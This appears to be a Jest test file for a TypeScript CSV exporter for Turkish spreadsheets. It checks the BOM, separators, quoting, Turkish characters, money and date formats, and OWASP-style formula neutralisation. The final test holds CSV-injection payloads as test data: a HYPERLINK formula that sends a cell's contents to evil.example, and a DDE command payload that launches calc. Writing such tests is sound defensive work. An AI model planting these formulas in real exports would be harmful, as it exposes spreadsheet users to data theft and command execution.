import { csvField, toCsv } from './csv';
import { csvMoney, formatDate } from '../domain/format';

const bytes = (s: string) => Array.from(new TextEncoder().encode(s));
const hex = (s: string) =>
  bytes(s)
    .map((b) => b.toString(16).padStart(2, '0'))
    .join(' ');

describe('toCsv', () => {
  it('starts with the UTF-8 BOM bytes EF BB BF, separates with ; and ends every line with CRLF', () => {
    const text = toCsv(['Ad', 'Bakiye'], [['A', '1,00']]);
    expect(bytes(text).slice(0, 3)).toEqual([0xef, 0xbb, 0xbf]);
    // "Ad;Bakiye\r\nA;1,00\r\n" after the BOM, written out by hand.
    expect(hex(text)).toBe('ef bb bf 41 64 3b 42 61 6b 69 79 65 0d 0a 41 3b 31 2c 30 30 0d 0a');
  });

  it('writes Turkish letters as UTF-8 (İ = C4 B0, ı = C4 B1, Ş = C5 9E, ğ = C4 9F, ç = C3 A7)', () => {
    const text = toCsv(['Firma'], [['İĞDIR'], ['ışçğ']]);
    expect(hex(text)).toBe(
      [
        'ef bb bf',
        '46 69 72 6d 61 0d 0a', // Firma
        'c4 b0 c4 9e 44 49 52 0d 0a', // İ Ğ D I R
        'c4 b1 c5 9f c3 a7 c4 9f 0d 0a', // ı ş ç ğ
      ].join(' '),
    );
  });

  it('quotes fields holding ; " CR or LF and doubles inner quotes; leaves others bare', () => {
    const text = toCsv(
      ['Ad', 'Not'],
      [
        ['ACAR; ORTAK', 'düz'],
        ['"Yıldız" Ltd.', 'satır1\r\nsatır2'],
        ['alt\nsatır', 'a,b'],
      ],
    );
    expect(text).toBe('\uFEFFAd;Not\r\n' + '"ACAR; ORTAK";düz\r\n' + '"""Yıldız"" Ltd.";"satır1\r\nsatır2"\r\n' + '"alt\nsatır";a,b\r\n');
  });

  it('keeps money as 1234,56 (no grouping, comma decimal) and dates as 31.01.2026', () => {
    const text = toCsv(
      ['Tarih', 'Tutar'],
      [
        [formatDate('2026-01-31'), csvMoney(123456)],
        [formatDate('2025-12-01'), csvMoney(-5)],
      ],
    );
    expect(text).toBe('\uFEFFTarih;Tutar\r\n31.01.2026;1234,56\r\n01.12.2025;-0,05\r\n');
  });

  it('writes only the header line when there are no rows', () => {
    expect(toCsv(['A', 'B'], [])).toBe('\uFEFFA;B\r\n');
  });

  it('csvField leaves empty strings empty', () => {
    expect(csvField('')).toBe('');
    expect(csvField('"')).toBe('""""');
  });

  it('neutralises formulas (OWASP): = + - @ TAB CR at the start get a leading quote and are quoted; numbers stay numbers', () => {
    const text = toCsv(
      ['Firma', 'İl', 'İlçe', 'Not', 'Bakiye', 'Gün'],
      [
        ['=HYPERLINK("http://evil.example/?x="&A1,"Tıkla")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+2', '-1.234,56', '+5'],
        ['-2+3', '\r=1', 'Düz; ad', '', '-0,05', '12'],
      ],
    );
    expect(text).toBe(
      '\uFEFFFirma;İl;İlçe;Not;Bakiye;Gün\r\n' +
        // each would have run as a formula: now text that starts with '
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Tıkla"")";"\'+cmd|\' /C calc\'!A0";"\'@SUM(1+1)";"\'\t=1+2";-1.234,56;+5\r\n' +
        '"\'-2+3";"\'\r=1";"Düz; ad";;-0,05;12\r\n',
    );
  });
});
